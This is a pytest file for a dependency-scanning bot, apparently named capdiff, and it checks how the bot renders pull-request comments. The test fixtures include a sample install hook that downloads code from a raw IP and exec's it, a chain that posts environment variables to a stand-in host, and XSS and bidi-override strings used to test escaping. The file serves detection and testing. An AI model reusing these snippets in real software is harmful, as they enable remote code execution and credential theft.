"""The pull-request comment, asserted whole."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.model import (
    Action,
    Alert,
    AlertType,
    ChangeKind,
    PackageResult,
    ScanResult,
    Verdict,
    canonicalize_name,
)
from bot.report.markdown import (
    COMMENT_MARKER,
    DEFAULT_COMMENT_CHARS,
    MIN_COMMENT_CHARS,
    needs_comment,
    render_all_clear,
    render_comment,
)

from .samples import alert, scan_results

URL = "https://github.com/o/r/runs/1"

EXPECTED = """\
<!-- capdiff:report -->
### capdiff — 1 blocking, 2 warnings in 4 changed dependencies (analysis incomplete for 1)

| package | change | new in this release |
|---|---|---|
| **fastjsonx** | added `1.0.2` | ⛔ `typosquat`, ⛔ `install-network` |
| **tqdm** | `4.66.1` → `4.66.4` | ⚠️ `env-secrets` |
| **httpcore** | added `1.0.5` (via **httpx**) | ⚠️ `network`, ❔ analysis incomplete |

1 more changed package, nothing to review — listed in [the check run](https://github.com/o/r/runs/1).

**Analysis incomplete** — capdiff could not read everything, so these packages may bring \
behaviour this report does not show:
- **httpcore** `1.0.5`: the wheel is over the 50 MB download limit
- advisory database unreachable: timed out after 10 s

<details><summary>⛔ fastjsonx 1.0.2 — typosquat, install-network</summary>

⛔ **`typosquat`** — The name imitates fastjsonschema, a popular project.

⛔ **`install-network`** in `setup.py:14` — Installing this package downloads and runs code \
from a raw IP address.
```python
data = urllib.request.urlopen('http://203.0.113.7/i.py').read()
exec(data)
```

Accept (needs write access): `@capdiff ignore fastjsonx@1.0.2 typosquat install-network`
</details>

<details><summary>⚠️ tqdm 4.66.4 — env-secrets</summary>

⚠️ **`env-secrets`** in `tqdm/contrib/slack.py:41` — Reads SLACK\\_TOKEN from the \
environment; 4.66.1 did not.
```python
token = os.environ["SLACK_TOKEN"]
```

Accept (needs write access): `@capdiff ignore tqdm@4.66.4 env-secrets`
</details>

<details><summary>⚠️ httpcore 1.0.5 — network</summary>

⚠️ **`network`** in `httpcore/_backends/sync.py:12` — Opens network connections.
```python
sock = socket.create_connection(address, timeout)
```

Accept (needs write access): `@capdiff ignore httpcore@1.0.5 network`
</details>

<sub>Policy: `.github/capdiff.yml` on `main` · 4 packages analyzed in 2.4 s · full details in \
[the check run](https://github.com/o/r/runs/1)</sub>
"""


def test_full_comment(result: ScanResult) -> None:
    rendered = render_comment(result, details_url=URL, policy_source=".github/capdiff.yml@main")
    assert rendered == EXPECTED


def test_truncation_drops_details_from_the_end_and_points_to_the_check_run(
    result: ScanResult,
) -> None:
    rendered = render_comment(result, details_url=URL, max_chars=1400)
    assert len(rendered) <= 1400
    assert rendered == (
        EXPECTED.split("<details><summary>⛔ fastjsonx 1.0.2", maxsplit=1)[0]
        + "<sub>Policy: built-in defaults · 4 packages analyzed in 2.4 s · full details in "
        "[the check run](https://github.com/o/r/runs/1)</sub>\n\n"
        "… 4 more findings — see [the check run](https://github.com/o/r/runs/1)\n"
    )
    # Whole package sections go from the end (the least severe first).
    rendered = render_comment(result, details_url=URL, max_chars=1900)
    assert len(rendered) <= 1900
    assert rendered == (
        EXPECTED.split("<details><summary>⚠️ httpcore", maxsplit=1)[0]
        + "<sub>Policy: built-in defaults · 4 packages analyzed in 2.4 s · full details in "
        "[the check run](https://github.com/o/r/runs/1)</sub>\n\n"
        "… 1 more finding — see [the check run](https://github.com/o/r/runs/1)\n"
    )


def test_truncation_drops_table_rows_after_every_detail(result: ScanResult) -> None:
    rendered = render_comment(result, max_chars=MIN_COMMENT_CHARS + 150)
    assert len(rendered) <= MIN_COMMENT_CHARS + 150
    assert rendered == (
        "<!-- capdiff:report -->\n"
        "### capdiff — 1 blocking, 2 warnings in 4 changed dependencies "
        "(analysis incomplete for 1)\n\n"
        "| package | change | new in this release |\n"
        "|---|---|---|\n"
        "| **fastjsonx** | added `1.0.2` | ⛔ `typosquat`, ⛔ `install-network` |\n"
        "| **tqdm** | `4.66.1` → `4.66.4` | ⚠️ `env-secrets` |\n\n"
        # the hidden httpcore row and the one package with nothing to review
        "… 4 more findings and 2 more packages — see the check run\n"
    )


def test_max_chars_below_the_minimum_is_refused(result: ScanResult) -> None:
    with pytest.raises(ValueError, match="at least 256"):
        render_comment(result, max_chars=100)


def hostile_result() -> ScanResult:
    package = PackageResult(
        name=canonicalize_name("evil"),
        change=ChangeKind.ADDED,
        old_version=None,
        new_version="1.0|`x`\n@y",
        alerts=(
            alert(
                "evil",
                "1.0",
                AlertType.SHELL,
                Action.WARN,
                "Runs @org/team <script>alert(1)</script> | now\nand more",
                file="a|b\n<img src=x>.py",
                line=3,
                evidence="```\n@org/team <script>alert(1)</script>\n````\n| x | y |\n\u202eevil",
            ),
        ),
    )
    return ScanResult(packages=(package,), manifests=(), verdict=Verdict.PASS)


def test_hostile_strings_cannot_break_out() -> None:
    assert render_comment(hostile_result()) == (
        "<!-- capdiff:report -->\n"
        "### capdiff — 1 warning in 1 changed dependency\n\n"
        "| package | change | new in this release |\n"
        "|---|---|---|\n"
        "| **evil** | added ``1.0\\|`x` @y`` | ⚠️ `shell` |\n\n"
        # HTML-escaped in the summary (Markdown is not parsed there); mentions broken by U+200B
        "<details><summary>⚠️ evil 1.0|`x` @\u200by — shell</summary>\n\n"
        # the place is a code span (no HTML inside one); the message is escaped Markdown
        "⚠️ **`shell`** in `a|b <img src=x>.py:3` — "
        "Runs @\u200borg/team \\<script\\>alert\\(1\\)\\</script\\> \\| now and more\n"
        # a fence longer than any backtick run inside; the bidi override made visible
        "`````python\n"
        "```\n@org/team <script>alert(1)</script>\n````\n| x | y |\n<U+202E>evil\n"
        "`````\n\n"
        "Accept (needs write access): ``@capdiff ignore evil@1.0|`x` @y shell``\n"
        "</details>\n\n"
        "<sub>Policy: built-in defaults · 1 package analyzed in 0.0 s · full details in "
        "the check run</sub>\n"
    )


def test_many_alerts_of_one_type_are_grouped() -> None:
    alerts = (
        *(alert("big", "2.0", AlertType.NETWORK, Action.WARN, f"call {i}", file="m.py", line=i,
                evidence=f"connect({i})") for i in range(1, 8)),
        alert("big", "2.0", AlertType.SHELL, Action.WARN, "Starts `git`.", file="a.py", line=3),
        alert("big", "2.0", AlertType.SHELL, Action.WARN, "Starts `ls`.", file="b.py", line=9),
    )
    package = PackageResult(
        name=canonicalize_name("big"),
        change=ChangeKind.UPGRADED,
        old_version="1.0",
        new_version="2.0",
        alerts=alerts,
    )
    rendered = render_comment(ScanResult(packages=(package,), manifests=(), verdict=Verdict.PASS))
    assert rendered.count("<details>") == 1
    details = rendered.split("<details>")[1].split("</details>")[0]
    assert details == (
        "<summary>⚠️ big 2.0 — network, shell</summary>\n\n"
        "⚠️ **`network`** in 7 places (`m.py:1`, `m.py:2`, `m.py:3` and 4 more) — call 1\n"
        "```python\nconnect(1)\n```\n\n"
        "⚠️ **`shell`** in 2 files (`a.py:3`, `b.py:9`) — Starts `git`.\n\n"
        "Accept (needs write access): `@capdiff ignore big@2.0 network shell`\n"
    )
    assert "| **big** | `1.0` → `2.0` | ⚠️ `network`, ⚠️ `shell` |" in rendered


def test_a_threat_s_chain_comes_first_and_whole() -> None:
    chain = (
        "reads `os.environ` (pkg/x.py:4) and posts it to `http://203.0.113.9/c` (pkg/x.py:9)"
        + " after decoding it" * 40
    )
    package = PackageResult(
        name=canonicalize_name("pkg"),
        change=ChangeKind.UPGRADED,
        old_version="1.0",
        new_version="1.1",
        alerts=(
            alert("pkg", "1.1", AlertType.NETWORK, Action.WARN, "Opens sockets.",
                  file="pkg/net.py", line=2),
            alert("pkg", "1.1", AlertType.EXFILTRATION, Action.BLOCK, chain,
                  file="pkg/x.py", line=9, evidence="post(url, env)"),
            alert("pkg", "1.1", AlertType.EXFILTRATION, Action.BLOCK, chain,
                  file="pkg/y.py", line=1),
        ),
    )
    rendered = render_comment(ScanResult(packages=(package,), manifests=(), verdict=Verdict.BLOCK))
    details = rendered.split("<details>")[1].split("</details>")[0]
    assert details == (
        "<summary>⛔ pkg 1.1 — exfiltration, network</summary>\n\n"
        "⛔ **`exfiltration`** — reads `os.environ` \\(pkg/x.py:4\\) and posts it to "
        "`http://203.0.113.9/c` \\(pkg/x.py:9\\)" + " after decoding it" * 40
        + " (also in `pkg/y.py:1`)\n"
        "```python\npost(url, env)\n```\n\n"
        "⚠️ **`network`** in `pkg/net.py:2` — Opens sockets.\n\n"
        "Accept (needs write access): `@capdiff ignore pkg@1.1 exfiltration network`\n"
    )


def _many_packages(count: int) -> ScanResult:
    """A large test-requirements bump: a few packages warn, one blocks, the rest are quiet."""
    packages = []
    for index in range(count):
        name = f"pkg{index:02d}"
        alerts: tuple[Alert, ...] = ()
        if index % 10 == 3:
            alerts = tuple(
                alert(name, "2.0", kind, Action.WARN, f"Uses {kind.value} ({i}).",
                      file=f"{name}/m{i}.py", line=i, evidence="x = call()\n" * 3)
                for kind in (AlertType.SHELL, AlertType.NETWORK, AlertType.DYNAMIC_CODE)
                for i in range(4)
            )
        elif index == 41:
            alerts = (alert(name, "2.0", AlertType.PTH_HOOK, Action.BLOCK, "Ships a .pth.",
                            file=f"{name}.pth", line=1, evidence="import x"),)
        elif index % 3 == 0:
            alerts = (alert(name, "2.0", AlertType.FRESH_RELEASE, Action.MONITOR, "new"),)
        packages.append(PackageResult(
            name=canonicalize_name(name), change=ChangeKind.UPGRADED, old_version="1.0",
            new_version="2.0", alerts=alerts))
    return ScanResult(packages=tuple(packages), manifests=("requirements.txt",),
                      verdict=Verdict.BLOCK)


def test_a_sixty_package_bump_fits_the_reading_budget_most_severe_first() -> None:
    rendered = render_comment(_many_packages(60), details_url=URL)
    assert len(rendered) <= DEFAULT_COMMENT_CHARS
    rows = [line for line in rendered.splitlines() if line.startswith("| **")]
    assert [row.split("**")[1] for row in rows] == [
        "pkg41", "pkg03", "pkg13", "pkg23", "pkg33", "pkg43", "pkg53"]
    assert (
        "53 more changed packages, nothing to review — listed in "
        "[the check run](https://github.com/o/r/runs/1)."
    ) in rendered
    assert rendered.count("<details>") == 7
    assert rendered.index("pkg41 2.0 — pth-hook") < rendered.index("pkg03 2.0 — shell")
    # The pointer appears only when something was left out.
    assert "more finding" not in rendered


def test_the_budget_drops_whole_sections_and_says_so() -> None:
    rendered = render_comment(_many_packages(200), details_url=URL)
    assert len(rendered) <= DEFAULT_COMMENT_CHARS
    assert rendered.count("<details>") == rendered.count("</details>")
    assert rendered.count("```") % 2 == 0
    assert rendered.endswith(" — see [the check run](https://github.com/o/r/runs/1)\n")
    assert "more findings" in rendered.splitlines()[-1]


def test_monitor_only_alerts_stay_out_of_the_comment() -> None:
    package = PackageResult(
        name=canonicalize_name("quiet"),
        change=ChangeKind.UPGRADED,
        old_version="1",
        new_version="2",
        alerts=(alert("quiet", "2", AlertType.FRESH_RELEASE, Action.MONITOR, "new"),),
    )
    result = ScanResult(packages=(package,), manifests=(), verdict=Verdict.PASS)
    assert not needs_comment(result)
    rendered = render_comment(result)
    assert "<details>" not in rendered
    assert "quiet" not in rendered
    assert "1 more changed package, nothing to review — listed in the check run." in rendered


def test_all_clear(result: ScanResult) -> None:
    assert render_all_clear(result, details_url=URL, policy_source="capdiff.yml") == (
        "<!-- capdiff:report -->\n"
        "✅ no new risky behaviour in 4 changed dependencies\n\n"
        "<sub>Policy: `capdiff.yml` · 4 packages analyzed in 2.4 s · full details in "
        "[the check run](https://github.com/o/r/runs/1)</sub>\n"
    )


def test_needs_comment(result: ScanResult) -> None:
    assert needs_comment(result)
    assert not needs_comment(ScanResult(packages=(), manifests=(), verdict=Verdict.PASS))


# --- property: never too long, always the marker --------------------------------------------


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    result=scan_results,
    max_chars=st.integers(MIN_COMMENT_CHARS, 6000),
    details_url=st.none() | st.just(URL) | st.text(max_size=3000),
)
def test_comment_never_exceeds_max_chars(
    result: ScanResult, max_chars: int, details_url: str | None
) -> None:
    rendered = render_comment(result, max_chars=max_chars, details_url=details_url)
    assert len(rendered) <= max_chars
    assert rendered.startswith(COMMENT_MARKER + "\n### capdiff — ")


def test_notes_sit_above_the_footer(result: ScanResult) -> None:
    rendered = render_all_clear(result, notes=["The ignore rule for six expired on 2026-01-01."])
    assert rendered == (
        "<!-- capdiff:report -->\n"
        "✅ no new risky behaviour in 4 changed dependencies\n\n"
        "- The ignore rule for six expired on 2026-01-01.\n\n"
        "<sub>Policy: built-in defaults · 4 packages analyzed in 2.4 s · full details in "
        "the check run</sub>\n"
    )
    assert "- The ignore rule for six expired on 2026-01-01.\n\n<sub>" in render_comment(
        result, notes=["The ignore rule for six expired on 2026-01-01."]
    )


def test_places_and_files_are_counted_apart() -> None:
    alerts = tuple(
        alert("pkg", "2", AlertType.NETWORK, Action.WARN, "Opens sockets.", file=file, line=line)
        for file, line in (("a.py", 1), ("a.py", 2), ("b.py", 3), ("a.py", 2))
    )
    package = PackageResult(name=canonicalize_name("pkg"), change=ChangeKind.ADDED,
                            old_version=None, new_version="2", alerts=alerts)
    rendered = render_comment(ScanResult(packages=(package,), manifests=(), verdict=Verdict.PASS))
    assert ("⚠️ **`network`** in 3 places in 2 files (`a.py:1`, `a.py:2`, `b.py:3`) — "
            "Opens sockets.\n") in rendered
